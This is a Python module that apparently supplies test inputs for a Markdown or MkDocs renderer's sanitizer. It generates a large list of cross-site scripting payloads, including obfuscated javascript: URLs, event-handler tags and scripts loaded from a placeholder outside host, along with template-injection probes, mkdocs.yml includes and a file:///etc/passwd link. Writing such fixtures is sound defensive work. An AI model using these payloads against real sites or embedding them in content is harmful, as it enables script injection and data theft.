"""Texts that would run a script, or ask another host for something, if they were ever read as more than text.

Each is put together of a way out of where a text stands, and of something that a browser would act on.
"""

from __future__ import annotations

from itertools import cycle, islice

ELSEWHERE = "elsewhere.example.org"
"""A host that no page may ask for anything."""

_RUN = "window.ran=1"

_WAYS_OUT = (
    *("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</p></div>", "</a>", "-->", "]]>", "`>"),
    *('\\">', "</svg>", "</noscript>", "&quot;&gt;", '" ', "' ", "\u2028", "%22%3E", "*/", "}}"),
)

_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<script src=//{ELSEWHERE}/a.js></script>",
    f"<SCRIPT\n>{_RUN}</SCRIPT >",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f'<img src="https://{ELSEWHERE}/a.png">',
    f"<img srcset=//{ELSEWHERE}/b.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><use href=//{ELSEWHERE}/c.svg#x /></svg>",
    f"<math><mtext href=javascript:{_RUN}>x</mtext></math>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f"<iframe src=//{ELSEWHERE}/></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<object data=//{ELSEWHERE}/d></object>",
    f"<embed src=//{ELSEWHERE}/e>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=//{ELSEWHERE}/f.ogg autoplay></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href=x onclick={_RUN}>x</a>",
    f"<a href=x ping=//{ELSEWHERE}/g>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN} form=f>x</button>",
    f"<style>@import'//{ELSEWHERE}/h.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/i.css>",
    f"<link rel=prefetch href=//{ELSEWHERE}/j>",
    f"<base href=//{ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}/k">',
    f"<p style=background:url(//{ELSEWHERE}/l.png)>x</p>",
    f"<p onmouseover={_RUN} onclick={_RUN}>x</p>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?x ><img src=x onerror={_RUN}>?>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
)

ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript&#58;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"&#x6A&#x61vascript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f"javascript\\:{_RUN}",
    f"javascript%3A{_RUN}",
    f"//{ELSEWHERE}/%0Ajavascript:{_RUN}",
    f"vbscript:{_RUN}",
    f"livescript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={_RUN}>",
    f"blob:https://{ELSEWHERE}/1",
    f"view-source:javascript:{_RUN}",
    "file:///etc/passwd",
    f"http:javascript:{_RUN}",
    f'https://example.org/"onclick={_RUN}//',
    f"https://example.org/'onclick={_RUN}//",
    f"https://example.org/)<img src=x onerror={_RUN}>",
    f'mailto:a@example.org"onclick={_RUN}',
)

LINK_FORMS = (
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "t")',
    "![x]({})",
    "<{}>",
    "[x][r]\n\n[r]: {}",
    "[![x]({})](https://example.org)",
    "[[x|{}]]",
)

_ENGINES = (
    "{{ 7*7 }} {}",
    "{% include 'mkdocs.yml' %} {}",
    "{{ config.__class__ }} {}",
    '{: onclick="{}" }',
    "{#id onclick={} }",
    '--8<-- "mkdocs.yml"\n{}',
    '!!! note "{}"',
    '??? note "{}"',
    "[TOC] {}",
    "*[x]: {}",
    "[^1] {}\n\n[^1]: {}",
    "| {} | a |\n| --- | --- |\n| {} | b |",
    "```html\n{}\n```",
    "    {}",
    '<div markdown="1" onclick="{}">x</div>',
    "# {}\n\n{}",
    "template: {}\nhide: [navigation]",
    "\u202e{}\u2066",
)


def payloads() -> tuple[str, ...]:
    """Return all of them, each once."""
    ways = cycle(_WAYS_OUT)
    found = [way + element for element in _ELEMENTS for way in islice(ways, len(_WAYS_OUT) // 2)]
    found += [form.replace("{}", address) for form in LINK_FORMS for address in ADDRESSES]
    found += [form.replace("{}", element) for form in _ENGINES for element in _ELEMENTS[:3]]
    return tuple(dict.fromkeys(found))
